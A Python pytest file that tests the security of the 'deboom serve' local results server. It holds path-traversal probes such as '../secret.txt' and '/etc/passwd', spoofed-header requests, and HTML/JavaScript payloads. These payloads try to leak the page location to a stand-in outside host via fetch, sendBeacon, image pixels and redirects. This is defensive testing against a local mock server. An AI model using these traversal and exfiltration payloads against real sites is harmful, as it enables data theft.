"""`deboom serve`: a real search watched in a real browser, and everybody else refused."""

import http.client
import http.server
import io
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
import wave
from pathlib import Path
from urllib.parse import urlsplit

import numpy as np
import pytest
from interactive_front_samples import front, live_front

from browser_samples import Browser
from deboom.errors import InputError
from deboom.report.interactive import is_interactive, render_interactive
from deboom.report.report import Report, Sound

pytest.importorskip("starlette")
pytest.importorskip("uvicorn")
from deboom.runs import serve
from deboom.runs.overview import refresh_overview
from deboom.runs.serve import serve_results

STUDY = Path(__file__).parents[1] / "samples" / "quad2_front.py"
DEBOOM = (sys.executable, "-m", "deboom")
ENVIRONMENT = {**os.environ, "PYTHONPATH": str(STUDY.parents[1])}  # where the study finds `samples`
GENERATION = (
    "Number(document.querySelector('.search h3').textContent.match(/generation (\\d+)/)[1])"
)


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    """Hold a finished run, and a folder beside the results that nobody may read."""
    top = tmp_path_factory.mktemp("served")
    (top / "secret.txt").write_text("secret", encoding="utf-8")
    command = [*DEBOOM, "run", str(STUDY), "--generations", "4", "--population", "12"]
    subprocess.run(
        [*command, "--out", str(top / "results")], check=True, capture_output=True, env=ENVIRONMENT
    )
    return top / "results"


@pytest.fixture(scope="module")
def address(results):
    """Start the server and return the address that it prints."""
    command = [*DEBOOM, "serve", str(results)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as server:
        yield server.stdout.readline().strip()
        server.terminate()


def status_of(address, path, method="GET", cookie=True, **headers):
    """Ask as a program would that sets what headers it likes; return status and text."""
    parts = urlsplit(address)
    token = parts.query.removeprefix("token=")
    if cookie:
        headers["Cookie"] = f"deboom{parts.port}={token}"
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    try:
        connection.request(method, path, headers=headers)
        answer = connection.getresponse()
        return answer.status, answer.read().decode()
    finally:
        connection.close()


@pytest.fixture(scope="module")
def files(address):
    """Return the path that files are served below."""
    _, text = status_of(address, "/api/runs")
    (run,) = json.loads(text)["runs"]
    return run["files"].removesuffix(run["id"])


def place_of(address, files, path, results):
    """Return the whole address of a file of the results."""
    parts = urlsplit(address)
    name = path.relative_to(results).as_posix()
    return f"{parts.scheme}://{parts.netloc}{files}{name}"


def test_a_run_and_its_pages_are_shown(address, results):
    status, text = status_of(address, "/api/runs")
    (run,) = json.loads(text)["runs"]
    assert (status, run["study"], run["state"]) == (200, "quad2_front", "finished")
    assert run["options"]["generations"] == "4"
    summary = json.loads((results / run["id"] / "summary.json").read_text(encoding="utf-8"))
    assert run["headlines"] == {"designs evaluated": str(summary["n_evaluated"])}
    assert run["typed"] == (results / run["id"]).resolve().as_posix()
    page = run["pages"][0]
    assert page["title"] == "report"
    report = next(results.glob("*/*/report.html")).read_text(encoding="utf-8")
    assert status_of(address, page["url"]) == (200, report)


@pytest.mark.parametrize(
    ("path", "request_", "status"),
    [
        ("/", {"cookie": False}, 403),
        ("/?token=guessed", {"cookie": False}, 403),
        ("/api/runs", {"Host": "example.org"}, 403),
        ("/api/runs", {"Origin": "http://example.org"}, 403),
        ("/api/runs", {"Origin": "null"}, 403),
        ("/api/runs", {"Sec-Fetch-Site": "cross-site"}, 403),
        ("/api/runs", {"method": "POST"}, 405),
        ("/api/runs", {"method": "DELETE"}, 405),
        ("FILES../secret.txt", {}, 404),
        ("FILES%2e%2e/secret.txt", {}, 404),
        ("FILES..%2fsecret.txt", {}, 404),
        ("FILES/etc/passwd", {}, 404),
        ("FILESquad2_front/nothing", {}, 404),
        ("FILESindex.html", {"cookie": False, "Sec-Fetch-Site": "cross-site"}, 200),
        ("FILESindex.html", {"Origin": "http://example.org"}, 403),
        ("FILESindex.html", {"Host": "example.org"}, 403),
        ("/files/guessed/index.html", {}, 404),
        ("/files/guessed/index.html", {"cookie": False}, 403),
        ("/api/search?run=../secret", {}, 404),
        ("/api/search?run=quad2_front", {}, 404),
        (f"/api/search?run={'a' * 5000}", {}, 404),
        (f"FILES{'a' * 5000}", {}, 404),
        ("FILES%ff", {}, 404),
        ("/?token=%C3%A9", {"cookie": False}, 403),
        ("/?token=%ed%a0%80", {"cookie": False}, 403),
        ("/api/runs", {"cookie": False, "Cookie": "deboomPORT=é"}, 403),
    ],
)
def test_whoever_may_not_ask_is_refused(address, files, path, request_, status):
    port = str(urlsplit(address).port)
    sent = {name: str(v).replace("PORT", port) if v else v for name, v in request_.items()}
    answer, text = status_of(address, path.replace("FILES", files), **sent)
    assert answer == status
    assert "secret\n" not in text
    assert "root:" not in text


def test_servers_of_one_computer_have_cookies_of_their_own(address):
    parts = urlsplit(address)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    connection.request("GET", f"/?{parts.query}")
    answer = connection.getresponse()
    cookie = answer.headers["Set-Cookie"]
    connection.close()
    assert answer.status == http.HTTPStatus.SEE_OTHER
    assert cookie.startswith(f"deboom{parts.port}=")


def test_a_link_out_of_the_results_is_no_file(address, files, results):
    link = results / "link.txt"
    link.symlink_to(results.parent / "secret.txt")
    try:
        assert status_of(address, f"{files}link.txt")[0] == 404
    finally:
        link.unlink()


@pytest.fixture
def broken(results):
    """Add a run whose search the test damages; return its folder."""
    finished = next(results.glob("quad2_front/*"))
    folder = results / "broken" / "2026-01-01_000000_seed1.unfinished"
    shutil.copytree(finished, folder)
    yield folder
    shutil.rmtree(results / "broken")


def rewritten(name, change):
    """Return what changes an array of the first generation."""

    def damage(search):
        path = search / "evaluations" / "000001.npz"
        arrays = dict(np.load(path))
        arrays[name] = change(arrays[name])
        np.savez(path, **arrays)

    return damage


DAMAGES = [
    (lambda search: (search / "search.json").write_text("{}"), "key 'variables'"),
    (lambda search: (search / "search.json").write_text("["), "search.json is not JSON"),
    (lambda search: (search / "inputs.json").write_text('{"a": 1}'), "inputs.json"),
    (lambda search: pipe(search / "search.json"), "is a device or a pipe"),
    (lambda search: pipe(search / "evaluations" / "000001.npz"), "is a device or a pipe"),
    (lambda search: linked(search / "evaluations"), "is a link out of"),
    (lambda search: linked(search / "search.json"), "is a link out of"),
    (lambda search: linked(search), "is a link out of"),
    (rewritten("designs", lambda rows: rows[:, :1]), "is of other variables or not finite"),
    (rewritten("mean_sum", lambda rows: rows * np.inf), "is of other variables or not finite"),
    (rewritten("mean_sum", lambda rows: rows[:3]), "has no row for each design"),
    (rewritten("excess", lambda rows: rows[:, :0].sum(axis=1)), "have no excess"),
    (rewritten("failed", lambda rows: rows.astype(float)), "have no failed"),
    (rewritten("sigma_sum", lambda rows: rows.astype(str)), "have no sigma_sum"),
]


def pipe(path):
    """Put a pipe in the place of a file."""
    path.unlink()
    os.mkfifo(path)


def linked(path):
    """Put a link to elsewhere in the place of a file or folder."""
    away = path.parents[4] / f"away-{path.name}"
    if away.is_dir():
        shutil.rmtree(away)
    path.rename(away)
    path.symlink_to(away)


@pytest.mark.parametrize(("damage", "words"), DAMAGES)
def test_a_damaged_search_is_told_and_spoils_no_other(address, broken, damage, words):
    shutil.copytree(broken / "search", broken / "whole")
    damage(broken / "search")
    run = broken.relative_to(broken.parents[1]).as_posix()
    status, text = status_of(address, f"/api/search?run={run}")
    damaged, whole = json.loads(text)["searches"]
    assert status == 200
    assert words in damaged["problem"]
    assert (whole["problem"], whole["generation"]) == ("", 4)


def test_a_damaged_or_linked_run_is_told_and_spoils_no_other(address, files, broken, results):
    away = results.parent / "away"
    (broken / "run.json").write_text('{"study": "s", "command": null}')
    status, text = status_of(address, "/api/runs")
    assert (status, len(json.loads(text)["runs"])) == (200, 2)
    for change, problem in (
        (lambda: (broken / "run.json").write_text('{"seed": 1e999}'), "run.json"),
        (lambda: pipe(broken / "run.json"), "is a device or a pipe"),
        (lambda: linked(broken / "run.json"), "is a link out of"),
    ):
        change()
        status, text = status_of(address, "/api/runs")
        told = json.loads(text)
        assert (status, len(told["runs"]), len(told["problems"])) == (200, 1, 1)
        assert problem in told["problems"][0]
        run = broken.relative_to(results).as_posix()
        assert status_of(address, f"/api/search?run={run}")[0] == 404
    broken.rename(away)
    broken.symlink_to(away)
    assert status_of(address, f"{files}{run}/report.html")[0] == 404
    broken.unlink()
    broken.mkdir()  # for the fixture
    shutil.rmtree(away)


def test_a_pipe_a_drawing_and_a_name_that_is_no_text(address, files, broken, results):
    where = files + broken.relative_to(results).as_posix()
    os.mkfifo(broken / "pipe.csv")
    (broken / "drawing.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>")
    (broken / os.fsdecode(b"\xff.html")).write_text("<p>")
    assert status_of(address, f"{where}/pipe.csv")[0] == 404
    assert status_of(address, "/api/runs")[0] == 200
    status, text = status_of(address, where)
    assert (status, os.fsdecode(b"\xff.html") in json.loads(text)) == (200, True)
    parts = urlsplit(address)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    connection.request("GET", f"{where}/drawing.svg")
    assert connection.getresponse().headers["Content-Type"] == "application/octet-stream"
    connection.close()


def test_a_page_of_a_run_reaches_nothing(address, files, results):
    parts = urlsplit(address)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    name = next(results.glob("*/*/report.html")).relative_to(results).as_posix()
    connection.request("GET", files + name)
    answer = connection.getresponse()
    policy = answer.headers["Content-Security-Policy"].split("; ")
    assert {"sandbox allow-downloads", "default-src 'none'"} <= set(policy)
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    connection.close()


class Elsewhere(http.server.BaseHTTPRequestHandler):
    """A server of somebody else, which notes who comes."""

    def do_GET(self):
        """Answer with a script."""
        self.server.visits.append(f"{self.path} {self.headers.get('Referer', '')}")
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"alert(1)")

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *_):
        """Say nothing."""


@pytest.fixture
def elsewhere():
    """Start a server of another address; return it, with its `visits` and `address`."""

    class Server(http.server.ThreadingHTTPServer):
        def get_request(self):
            self.visits.append("a connection")
            return super().get_request()

    with Server(("127.0.0.1", 0), Elsewhere) as server:
        server.visits, server.address = [], f"http://127.0.0.1:{server.server_port}"
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()


PASSIVE = """<meta name="referrer" content="unsafe-url">
<link rel="icon" href="OUT/icon"><link rel="stylesheet" href="OUT/style">
<link rel="prefetch" href="OUT/prefetch"><link rel="preload" as="script" href="OUT/preload">
<link rel="modulepreload" href="OUT/module"><link rel="prerender" href="OUT/prerender">
<link rel="dns-prefetch" href="OUT"><link rel="manifest" href="OUT/manifest">
<link rel="preconnect" href="OUT"><base href="OUT/base/">
<style>@import "OUT/import"; @font-face { font-family: f; src: url(OUT/font) }
body { font-family: f; background: url(OUT/background) }</style>
<p id="said">nothing</p><img src="OUT/image" srcset="OUT/images 2x"><img src="relative">
<picture><source srcset="OUT/source"><img></picture><input type="image" src="OUT/input">
<video autoplay poster="OUT/poster" src="OUT/video"></video><audio autoplay src="OUT/audio"></audio>
<object data="OUT/object"></object><embed src="OUT/embed"><iframe src="OUT/frame"></iframe>
<iframe srcdoc="<meta http-equiv='refresh' content='0;url=OUT/inner'>"></iframe>
<svg><image href="OUT/svg"/><use href="OUT/use#a"/></svg>
<script type="speculationrules">{"prefetch": [{"urls": ["OUT/speculation"]}]}</script>
<form id="form" action="OUT/form"><input name="a" value="b" autofocus></form>"""
SCRIPTS = {
    "foreign script": '<script src="OUT/script"></script>',
    "location": '<script>location = "OUT/location?" + location</script>',
    "window": '<script>open("OUT/window?" + location)</script>',
    "form": '<script>document.getElementById("form").submit()</script>',
    "fetch": '<script>fetch("OUT/fetch?" + location, { mode: "no-cors" })</script>',
    "beacon": '<script>navigator.sendBeacon("OUT/beacon", String(location))</script>',
    "picture": '<script>new Image().src = "OUT/pixel?" + location</script>',
    "event": '<img src="relative" onerror="location = \'OUT/event?\' + location">',
    "said": '<script>document.getElementById("said").textContent = "ran"</script>',
    "refresh": '<meta http-equiv="refresh" content="0; url=OUT/refresh">',
    "encoded refresh": '<meta http-equiv="&#114;efresh" content="0; url=OUT/refreshed">',
}


@pytest.mark.slow("opens a browser")
@pytest.mark.parametrize("shipped", [False, True], ids=["own scripts", "scripts of deboom"])
def test_no_page_of_a_run_tells_elsewhere_or_goes_there(
    address, files, results, elsewhere, shipped
):
    """Each attempt has a page of its own: one that leads elsewhere ends the others."""
    around = render_interactive(live_front()[0]) if shipped else "<body></body>"
    home = next(results.glob("*/*"))
    browser = Browser()
    try:
        browser.open_address(address)  # the browser holds the cookie from now on
        for name, attempt in SCRIPTS.items():
            page = home / "hostile.html"
            words = (PASSIVE + attempt).replace("OUT", elsewhere.address)
            page.write_text(around.replace("</body>", f"{words}</body>"), encoding="utf-8")
            served = place_of(address, files, page, results)
            browser.open_address(served)
            time.sleep(0.4)
            assert browser.value("String(location)") == served, name
            assert browser.text("#said") == "nothing", name
            assert not elsewhere.visits, name
    finally:
        browser.close()
        page.unlink()


@pytest.mark.slow("opens a browser")
def test_a_click_on_a_link_to_elsewhere_does_not_say_where_it_was(
    address, files, results, elsewhere
):
    page = next(results.glob("*/*")) / "hostile.html"
    link = f'<a id="a" href="{elsewhere.address}/" referrerpolicy="unsafe-url">further</a>'
    page.write_text(PASSIVE.partition("<link")[0] + link, encoding="utf-8")
    browser = Browser()
    try:
        browser.open_address(address)
        browser.open_address(place_of(address, files, page, results))
        browser.value("document.getElementById('a').click()")
        browser.wait(f"String(location).startsWith('{elsewhere.address}')")
        assert "/ " in elsewhere.visits  # a path, and no Referer
        assert "files" not in str(elsewhere.visits)
    finally:
        browser.close()
        page.unlink()


@pytest.mark.slow("opens a browser")
def test_the_model_of_a_served_page_answers_plays_and_saves(address, files, results):
    page = next(results.glob("*/*")) / "live.html"
    page.write_text(render_interactive(live_front()[0]), encoding="utf-8")
    browser = Browser()
    try:
        browser.open_address(address)
        browser.open_address(place_of(address, files, page, results))
        browser.wait("live.session.band !== null && live.session.band.fresh")
        browser.value("document.getElementById('live-save').click()")
        assert json.loads(browser.downloaded("2026-seed-1_design.json"))["run"] == "2026 seed 1"
        assert browser.complaints == []
        browser.value("document.querySelector('[aria-label^=hear]').click()")
        assert browser.value("document.querySelectorAll('#live-cards button.on').length") == 1
        # that a page may not play without a click is all that is complained of
        assert all("AudioContext" in complaint["text"] for complaint in browser.complaints)
    finally:
        browser.close()
        page.unlink()


@pytest.mark.slow("opens a browser")
def test_sounds_of_a_served_page_and_beside_it_play(address, files, results):
    stream = io.BytesIO()
    with wave.open(stream, "wb") as sound:
        sound.setparams((1, 2, 8000, 8000, "NONE", ""))
        sound.writeframes(bytes(16000))
    report = Report("Hear it", "How loud?")
    report.answer("As loud as today.")
    report.panel("Sounds", Sound("today", stream.getvalue()))
    run = next(results.glob("*/*"))
    (run / "sound.html").write_text(report.html({}), encoding="utf-8")
    (run / "sound.wav").write_bytes(stream.getvalue())
    browser = Browser()
    try:
        for name in ("sound.html", "sound.wav"):
            browser.open_address(place_of(address, files, run / name, results))
            browser.wait("document.querySelector('audio, video').duration === 1")
    finally:
        browser.close()
        (run / "sound.html").unlink()
        (run / "sound.wav").unlink()


def test_a_page_runs_scripts_only_if_it_is_the_interactive_page_element_by_element():
    page = render_interactive(live_front()[0])
    plain = render_interactive(front())
    assert is_interactive(page)
    assert is_interactive(plain)
    script = page.rpartition("<script>")[2].partition("</script>")[0]
    for end in (
        "<script>alert(1)</script>",
        '<script id="live-script">postMessage(1)</script>',
        '<meta http-equiv="refresh" content="0; url=http://example.org">',
        f'<meta <script>{script}</script> http-equiv="refresh" content="0; url=/">',
        f"<img src=\"data:image/png;base64,\" onerror='location = 1' {script}>",
        "<a href=/>",
        "<",
        "\0",
    ):
        assert not is_interactive(page.replace("</body>", f"{end}</body>")), end
        assert not is_interactive(page + end), end
    assert not is_interactive(page.replace(script, script.replace("strict", "Strict")))
    assert not is_interactive("<p>a page</p>")


def test_a_page_of_another_encoding_is_none(address, files, results):
    page = next(results.glob("*/*")) / "utf16.html"
    page.write_text("<script>alert(1)</script>", encoding="utf-16")
    try:
        status, text = status_of(address, files + page.relative_to(results).as_posix())
        assert (status, "is not UTF-8 text" in text) == (404, True)
    finally:
        page.unlink()


@pytest.mark.slow("opens a browser")
def test_links_and_pictures_of_a_served_overview_work(address, files, results):
    browser = Browser()
    figures = next(results.glob("*/*")) / "figures"
    figures.mkdir()
    try:
        (figures / "box.png").write_bytes(browser.picture())
        refresh_overview(results)
        browser.open_address(place_of(address, files, results / "index.html", results))
        browser.wait("document.querySelector('img').naturalWidth > 0")
        browser.value("document.querySelector('a.picture').click()")
        browser.wait("location.pathname.endsWith('/report.html')")
        # the browser asks for an icon by itself
        urls = [complaint["url"] for complaint in browser.complaints]
        assert [url for url in urls if not url.endswith("/favicon.ico")] == []
    finally:
        browser.close()
        shutil.rmtree(figures)


def test_a_record_is_read_again_only_when_it_has_changed(results, monkeypatch):
    path = next(results.glob("*/*/run.json")).resolve()
    read = []
    real = serve.read_record
    monkeypatch.setattr(serve, "read_record", lambda path: read.append(path) or real(path))
    folder = serve.ResultsFolder(results.resolve(), "/files/")
    for _ in range(3):
        (run,) = folder.runs()["runs"]
    assert read == [path]
    os.utime(path, ns=(1, 1))
    assert folder.runs()["runs"] == [run]
    assert read == [path, path]


@pytest.mark.slow("waits for a search in a process of its own")
def test_a_running_search_grows_in_the_browser(address, results):
    browser = Browser()
    command = [*DEBOOM, "run", str(STUDY), "--generations", "100000", "--population", "12"]
    search = subprocess.Popen(
        [*command, "--seed", "2", "--out", str(results)],
        env=ENVIRONMENT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        browser.open_address(address)
        browser.wait("document.querySelectorAll('#searches circle').length > 0", seconds=90)
        first = browser.value(GENERATION)
        browser.wait(f"{GENERATION} > {first}", seconds=90)
        assert "token" not in browser.value("location.href")
        assert browser.value("document.querySelectorAll('#runs tbody tr').length") == 2
        browser.value("document.querySelectorAll('#runs input').forEach(box => box.click())")
        assert browser.text("#command").startswith(f"deboom compare {results.as_posix()}/")
        browser.value("document.getElementById('words').value = 'generations\":\"4\"'")
        browser.value("document.getElementById('words').dispatchEvent(new Event('input'))")
        assert browser.value("document.querySelectorAll('#runs tbody tr').length") == 1
        for width in (1440, 400):
            browser.resize(width)
            assert browser.value("document.documentElement.scrollWidth <= innerWidth")
        assert browser.complaints == []
    finally:
        search.kill()
        search.wait()
        browser.close()


def test_a_folder_that_is_none_and_a_port_that_is_taken(address, results, tmp_path):
    with pytest.raises(InputError, match="nothing is no folder"):
        next(serve_results(tmp_path / "nothing", port=0))
    with pytest.raises(InputError, match=r"cannot be used .* try --port 0"):
        next(serve_results(results, port=urlsplit(address).port))
    assert re.fullmatch(r"http://127\.0\.0\.1:\d+/\?token=[\w-]{32}", address)
